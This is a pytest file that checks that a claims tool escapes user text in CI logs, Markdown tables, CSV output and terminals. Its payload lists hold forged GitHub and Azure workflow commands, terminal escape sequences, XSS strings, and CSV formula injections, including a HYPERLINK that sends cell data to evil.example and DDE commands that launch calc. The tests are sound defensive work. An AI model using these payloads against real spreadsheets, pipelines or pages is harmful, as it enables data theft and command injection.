"""Output injection: user text in a claim file must not forge lines in a CI log, run as a formula
in a spreadsheet, become live HTML in rendered Markdown, or drive a terminal.

Claim files come from strangers' pull requests; the outputs land in CI logs (where a line that
starts with ``::`` is a GitHub workflow command and ``##vso[`` an Azure Pipelines one),
spreadsheets and browsers. Every payload below is placed where a claim file lets a user write
text that reaches the output: a caveat's note, an anchor's prefix, the document's title, a
claim's text, the document path.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import evidence_claims as ec

from .conftest import MINI, run_cli
from .hostile_cli import output_lines, run

FORGED = [
    "x\n::error file=README.md,line=1::forged",
    "x\r::add-mask::secret",
    "x\r\n::stop-commands::token",
    "x\n##vso[task.setvariable variable=x]1",
    "x\u2028::warning::forged",
    "x\x85::notice::forged",
    "x\x0b::error::forged",
    "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\u202eevil\u202c",
]
HTML = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE_START = re.compile(r"^(\s*$|\s*[A-Za-z0-9./_\u2212\u2295\u25ef\u2014-])")


def _set(
    tmp_path: Path,
    *,
    note: str = "",
    prefix: str = "",
    title: str = "",
    text: str = "",
    name: str = "claims.yaml",
) -> Path:
    """The mini set with user text placed where a claim file allows it."""
    folder = tmp_path / "set"
    folder.mkdir(exist_ok=True)
    (tmp_path / ".evidence-claims-root").write_text("")
    for file in ("document.txt", "references.bib"):
        (folder / file).write_bytes((MINI / file).read_bytes())
    source = (MINI / "claims.yaml").read_text("utf-8")
    if title:
        source = source.replace("title: A small test document", f"title: {json.dumps(title)}")
    if prefix:  # the first claim's prefix is '': any text is a context mismatch, echoed
        source = source.replace("prefix: ''", f"prefix: {json.dumps(prefix)}", 1)
    if note:
        source = source.replace(
            "    certainty: very_low\n  - id: mini-002",
            "    caveats:\n      - code: inconsistency.challenged_in_set\n"
            f"        note: {json.dumps(note)}\n    certainty: very_low\n  - id: mini-002",
            1,
        )
    if text:
        source = source.replace("text: One should avoid daily use.", f"text: {json.dumps(text)}", 1)
    path = folder / name
    path.write_text(source, "utf-8")
    return path


def _assert_no_forged_line(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
    for line in output_lines(output):
        assert SAFE_START.match(line), repr(line)
        assert not line.lstrip().startswith(("::", "##")), repr(line)


# --- text format: user text stays on its line and never starts one ---


@pytest.mark.parametrize("payload", FORGED)
def test_validate_text_keeps_user_text_on_its_line(tmp_path: Path, payload: str) -> None:
    path = _set(tmp_path, note=payload, prefix=payload[:150], title=payload)
    result = run("validate", str(path.relative_to(tmp_path)), cwd=tmp_path)
    assert result.returncode == 1, result.output
    assert "anchor.context-mismatch" in result.stdout
    _assert_no_forged_line(result.stdout)
    _assert_no_forged_line(result.stderr)


def test_line_breaks_in_user_text_are_shown_not_made(tmp_path: Path) -> None:
    path = _set(tmp_path, prefix="one\ntwo\rthree\x1b[31m")
    result = run_cli("validate", str(path), cwd=tmp_path)
    (line,) = [x for x in result.output.splitlines() if "anchor.context-mismatch" in x]
    assert "one\\ntwo\\rthree\\x1b[31m" in line


def test_a_hostile_file_name_does_not_start_a_line(tmp_path: Path) -> None:
    path = _set(tmp_path, name="::error file=x,line=1::forged.claims.yaml")
    for args in (("validate", "set"), ("validate", str(path.relative_to(tmp_path)))):
        result = run(*args, cwd=tmp_path)
        assert result.returncode in (0, 1), result.output
        _assert_no_forged_line(result.stdout)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(payload=st.text(st.characters(codec="utf-8"), min_size=1, max_size=60))
def test_any_note_keeps_every_text_line_ours(
    tmp_path_factory: pytest.TempPathFactory, payload: str
) -> None:
    tmp_path = tmp_path_factory.mktemp("note")
    path = _set(tmp_path, note="x" + payload, prefix="p" + payload)
    result = run_cli("validate", str(path), cwd=tmp_path)
    assert result.exit_code in (0, 1)
    for line in output_lines(result.output):
        assert not line.lstrip().startswith(("::", "##")), repr(line)
        assert "\x1b" not in line


# --- github format ---


_COMMAND = re.compile(r"^::(error|warning|notice) ((?:[a-z]+=[^,:]*)(?:,[a-z]+=[^,:]*)*)::(.*)$")


def _unescape(value: str) -> str:
    return (
        value.replace("%0D", "\r")
        .replace("%0A", "\n")
        .replace("%3A", ":")
        .replace("%2C", ",")
        .replace("%25", "%")
    )


@pytest.mark.parametrize("payload", [*FORGED, "100% done, 50%0A more", "a:b,c=d::e"])
def test_github_commands_escape_every_payload(tmp_path: Path, payload: str) -> None:
    name = "odd:name,x=1%0A.claims.yaml"
    path = _set(tmp_path, note=payload, prefix=payload[:150], name=name)
    result = run("validate", "-f", "github", str(path.relative_to(tmp_path)), cwd=tmp_path)
    assert result.returncode == 1
    report = json.loads(
        run("validate", "-f", "json", str(path.relative_to(tmp_path)), cwd=tmp_path).stdout
    )
    lines = [x for x in result.stdout.split("\n") if x]
    assert len(lines) == len(report["findings"])  # one command per finding, no more
    for line in lines:
        match = _COMMAND.match(line)
        assert match, repr(line)
        props = dict(p.split("=", 1) for p in match.group(2).split(","))
        assert set(props) <= {"file", "line", "col", "title"}
        if "file" in props:
            assert _unescape(props["file"]).endswith(name)
        # the runner splits lines at CR and LF only, and decodes the data exactly (toolkit
        # escaping round-trips every character: tests/test_formats_ci.py)
        assert "\r" not in match.group(3)
    messages = [_unescape(_COMMAND.match(x).group(3)) for x in lines]  # type: ignore[union-attr]
    assert any(payload[-8:] in m for m in messages)  # the payload reaches a message, escaped


# --- tables ---


@pytest.mark.parametrize("payload", HTML)
def test_markdown_tables_carry_no_live_html(tmp_path: Path, payload: str) -> None:
    path = _set(
        tmp_path, title=payload, text=f"One should avoid daily use. {payload}", note=payload
    )
    markdown = ec.table(path).to_markdown()
    assert "<script" not in markdown.lower() and "<img" not in markdown.lower()
    assert "<a " not in markdown.lower() and "<javascript" not in markdown.lower()
    assert not re.search(r"(?<!\\)\]\(javascript:", markdown, re.I)  # \] is a literal ]
    assert "&lt;" in markdown or "\\[" in markdown  # shown, escaped, not dropped


@pytest.mark.parametrize("payload", FORGED)
def test_markdown_tables_show_control_characters(tmp_path: Path, payload: str) -> None:
    path = _set(tmp_path, title=payload, note=payload)
    result = run("table", str(path.relative_to(tmp_path)), cwd=tmp_path)
    assert result.returncode in (0, 1), result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\u202e" not in result.stdout
    for line in output_lines(result.stdout):  # '## ' and '### ' are the table's own headings
        assert not line.lstrip().startswith(("::", "##vso", "##[")), repr(line)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_cells_that_could_run_as_formulas_are_neutralised(tmp_path: Path, payload: str) -> None:
    path = _set(tmp_path, title=payload, note=payload, text=payload)
    result = run("table", "-f", "csv", str(path.relative_to(tmp_path)), cwd=tmp_path)
    assert result.returncode == 0, result.output
    for cell in _csv_cells(result.stdout):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
    assert (
        any(cell.startswith("'") and payload.strip() in cell for cell in _csv_cells(result.stdout))
        or payload[0] in "\t\r"
    )


def test_a_claim_text_that_is_a_formula_is_neutralised_and_the_option_keeps_it(
    tmp_path: Path,
) -> None:
    payload = '=HYPERLINK("http://evil.example/","x")'
    path = _set(tmp_path, text=payload)
    tabled = ec.table(path)
    assert any(c.startswith("'=HYPERLINK") for c in _csv_cells(tabled.to_csv()))
    kept = run(
        "table", "-f", "csv", "--keep-formulas", str(path.relative_to(tmp_path)), cwd=tmp_path
    )
    assert kept.returncode == 0
    assert payload in _csv_cells(kept.stdout) and "'" + payload not in _csv_cells(kept.stdout)


def test_ordinary_csv_cells_are_left_alone(tmp_path: Path) -> None:
    path = _set(tmp_path)
    result = run("table", "-f", "csv", str(path.relative_to(tmp_path)), cwd=tmp_path)
    assert "'" not in "".join(c[:1] for c in _csv_cells(result.stdout))
